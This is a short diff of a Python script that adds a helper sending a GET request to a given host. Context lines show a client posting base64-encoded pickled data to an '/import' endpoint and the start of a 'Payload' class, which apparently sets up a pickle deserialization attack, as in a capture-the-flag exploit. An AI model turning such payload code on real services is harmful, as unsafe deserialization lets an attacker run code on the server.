@@ -35,6 +35,10 @@ class user:
             self.web.ask("POST", "/import", base64.b64encode(pickle.dumps([(pace.words(3),)] * 3)))
 
 
+def once(host):
+    return Web(host, PORT, 5).ask("GET", "/")
+
+
 class Payload:
     def __init__(self, source):
         self.source = source
